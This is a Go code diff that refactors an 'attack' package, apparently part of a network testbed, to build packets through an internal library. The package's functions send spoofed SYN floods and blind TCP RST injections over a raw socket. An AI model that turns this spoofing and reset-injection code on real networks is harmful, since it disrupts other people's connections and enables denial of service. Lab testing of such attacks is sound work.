@@ -4,7 +4,6 @@
 package attack
 
 import (
-	"encoding/binary"
 	"errors"
 	"fmt"
 	"math/rand/v2"
@@ -12,6 +11,7 @@ import (
 
 	"golang.org/x/sys/unix"
 
+	"github.com/detour-collective/dcol/internal/packet"
 	"github.com/detour-collective/dcol/lab/testbed"
 )
 
@@ -19,45 +19,21 @@ import (
 // wherever they get to.
 const ForgedWindow = 0xdc0f
 
-// Flags of TCP.
-const (
-	SYN = 0x02
-	RST = 0x04
-	ACK = 0x10
-)
+// SYN is the flag of segments that open a connection.
+const SYN = packet.SYN
 
 // Segment is an IPv4 packet with a TCP header and nothing behind it (RFC 791, RFC 9293).
 type Segment struct {
 	From, To netip.AddrPort
 	Seq      uint32
-	Flags    byte
+	Flags    packet.Flags
 	Window   uint16
 }
 
-func (s Segment) bytes() []byte {
-	const ip, tcp = 20, 20
-	b := make([]byte, ip+tcp)
-	b[0], b[8], b[9] = 0x45, 64, unix.IPPROTO_TCP // the kernel fills in the checksum
-	binary.BigEndian.PutUint16(b[2:], uint16(len(b)))
-	copy(b[12:], s.From.Addr().AsSlice())
-	copy(b[16:], s.To.Addr().AsSlice())
-	t := b[ip:]
-	binary.BigEndian.PutUint16(t, s.From.Port())
-	binary.BigEndian.PutUint16(t[2:], s.To.Port())
-	binary.BigEndian.PutUint32(t[4:], s.Seq)
-	t[12], t[13] = tcp/4<<4, s.Flags
-	binary.BigEndian.PutUint16(t[14:], s.Window)
-	sum := uint32(unix.IPPROTO_TCP) + uint32(len(t))
-	for _, part := range [][]byte{b[12:ip], t} {
-		for i := 0; i < len(part); i += 2 {
-			sum += uint32(binary.BigEndian.Uint16(part[i:]))
-		}
-	}
-	for sum > 0xffff {
-		sum = sum>>16 + sum&0xffff
-	}
-	binary.BigEndian.PutUint16(t[16:], ^uint16(sum))
-	return b
+func (s Segment) bytes() ([]byte, error) {
+	p := packet.Segment(s.From, s.To, packet.TCP{Seq: s.Seq, Flags: s.Flags, Window: s.Window}, nil)
+	err := p.Seal()
+	return p.Bytes(), err
 }
 
 // Raw sends packets from a host, whatever their source.
@@ -81,7 +57,11 @@ func (r *Raw) Close() error { return unix.Close(r.fd) }
 
 // Send sends a segment.
 func (r *Raw) Send(s Segment) error {
-	err := unix.Sendto(r.fd, s.bytes(), 0, &unix.SockaddrInet4{Addr: s.To.Addr().As4()})
+	b, err := s.bytes()
+	if err != nil {
+		return fmt.Errorf("forge a segment: %w", err)
+	}
+	err = unix.Sendto(r.fd, b, 0, &unix.SockaddrInet4{Addr: s.To.Addr().As4()})
 	if err != nil && !errors.Is(err, unix.ENOBUFS) {
 		return fmt.Errorf("send a forged segment: %w", err)
 	}
@@ -94,7 +74,7 @@ func ForgeSYNs(r *Raw, member netip.Addr, at []netip.AddrPort) error {
 	for _, to := range at {
 		for range 20 {
 			from := netip.AddrPortFrom(member, uint16(1024+rand.IntN(60000)))
-			if err := r.Send(Segment{From: from, To: to, Seq: rand.Uint32(), Flags: SYN, Window: ForgedWindow}); err != nil {
+			if err := r.Send(Segment{From: from, To: to, Seq: rand.Uint32(), Flags: packet.SYN, Window: ForgedWindow}); err != nil {
 				return err
 			}
 		}
@@ -110,7 +90,7 @@ type Flow struct{ From, To netip.AddrPort }
 func BlindRSTs(r *Raw, flows []Flow) error {
 	for _, f := range flows {
 		for range 20 {
-			for _, flags := range []byte{RST, RST | ACK} {
+			for _, flags := range []packet.Flags{packet.RST, packet.RST | packet.ACK} {
 				if err := r.Send(Segment{From: f.From, To: f.To, Seq: rand.Uint32(), Flags: flags}); err != nil {
 					return err
 				}
